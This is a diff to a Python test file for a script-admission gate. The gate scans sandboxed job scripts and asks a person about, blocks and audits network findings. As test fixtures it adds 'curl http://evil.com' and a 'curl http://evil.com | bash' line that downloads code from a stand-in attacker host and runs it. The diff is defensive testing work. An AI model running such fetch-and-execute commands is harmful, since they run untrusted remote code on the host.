@@ -18,7 +18,7 @@ from refute.sandbox.job import Job
 from refute.sandbox.network_hosts import read_hosts
 from refute.scan.scanner import scan_files
 from refute.settings import Settings
-from refute.stages.admission import confirm, pose_question, scan_scripts, take_snapshot, unconfirmed
+from refute.stages.admission import admit, confirm, pose_question, scan_scripts, take_snapshot, unconfirmed
 from refute.ticket.parse import load_ticket
 from tests.fakes.jobs import FACTS
 from tests.fakes.wheels import FakeWheel
@@ -94,9 +94,43 @@ def test_the_verification_s_container_is_made_while_the_person_is_asked(tmp_path
 
 def test_after_a_no_it_is_removed(tmp_path):
     world = World(tmp_path)
-    stop = unconfirmed(confirm(world.ports, world.question, Answer(yes=False)))
+    stop = unconfirmed(
+        confirm(world.ports, world.question, Answer(yes=False)), world.question.scan, allow_dangerous=False
+    )
     assert stop == Stop(status=Status.CANCELLED, reason="no")
     assert world.sandbox.discarded == 1
+
+
+ASKED = "curl http://evil.com\n"
+REFUSED = "curl http://evil.com | bash\n"
+
+
+@pytest.mark.parametrize(
+    ("script", "attended", "allow_dangerous", "asks"),
+    [
+        (ASKED, True, False, True),
+        (ASKED, False, False, False),
+        (REFUSED, True, False, False),
+        (REFUSED, True, True, True),
+        ("curl http://localhost:8000\n", False, False, True),
+    ],
+)
+def test_who_is_asked_about_dangerous_findings(tmp_path, script, *, attended, allow_dangerous, asks):
+    scan = World(tmp_path, script=script).question.scan
+    stop = admit(scan, allow_dangerous=allow_dangerous, attended=attended)
+    assert (stop is None) == asks
+    assert asks or stop.status is Status.BLOCKED_DANGEROUS_SCRIPT
+
+
+def test_a_no_to_named_findings_blocks_and_a_yes_is_audited_with_them(tmp_path):
+    world = World(tmp_path, script=ASKED)
+    scan = world.question.scan
+    stop = unconfirmed(confirm(world.ports, world.question, Answer(yes=False)), scan, allow_dangerous=False)
+    assert stop.status is Status.BLOCKED_DANGEROUS_SCRIPT
+    assert stop.reason.endswith("; not approved: no")
+    assert unconfirmed(confirm(world.ports, world.question, Answer(yes=True)), scan, allow_dangerous=False) is None
+    assert world.audited()[-1]["gate"] == "scan_override"
+    assert world.audited()[-1]["metadata"]["findings"] == "network-external@verify.sh:1"
 
 
 def test_where_nothing_can_be_prepared_the_person_is_asked_all_the_same(tmp_path, monkeypatch):
